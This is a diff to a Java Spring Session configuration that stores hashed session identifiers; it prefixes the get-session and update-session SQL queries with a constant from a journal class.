@@ -7,6 +7,7 @@ import org.springframework.context.annotation.Bean;
 import org.springframework.context.annotation.Configuration;
 import org.springframework.session.config.SessionRepositoryCustomizer;
 import org.springframework.session.jdbc.JdbcIndexedSessionRepository;
+import vn.chosach.journal.Journal;
 
 /**
  * Identifiers of sessions have 256 random bits and stand in the database as a digest alone, so that
@@ -32,22 +33,24 @@ class HashedSessionIds {
           """
               .formatted(DIGEST.formatted("?")));
       sessions.setGetSessionQuery(
-          """
+          Journal.WHOEVER_LOOKS
+              + """
           SELECT s.primary_id, asked.id AS session_id, s.creation_time, s.last_access_time,
                  s.max_inactive_interval, a.attribute_name, a.attribute_bytes
             FROM (SELECT ?::text AS id) asked
             JOIN %%TABLE_NAME%% s ON s.session_id = %s
             LEFT JOIN %%TABLE_NAME%%_ATTRIBUTES a ON a.session_primary_id = s.primary_id
           """
-              .formatted(DIGEST.formatted("asked.id")));
+                  .formatted(DIGEST.formatted("asked.id")));
       sessions.setUpdateSessionQuery(
-          """
+          Journal.WHOEVER_LOOKS
+              + """
           UPDATE %%TABLE_NAME%%
              SET session_id = %s, last_access_time = ?, max_inactive_interval = ?,
                  expiry_time = ?, principal_name = ?
            WHERE primary_id = ?
           """
-              .formatted(DIGEST.formatted("?")));
+                  .formatted(DIGEST.formatted("?")));
       sessions.setDeleteSessionQuery(
           "DELETE FROM %%TABLE_NAME%% WHERE session_id = %s AND max_inactive_interval >= 0"
               .formatted(DIGEST.formatted("?")));
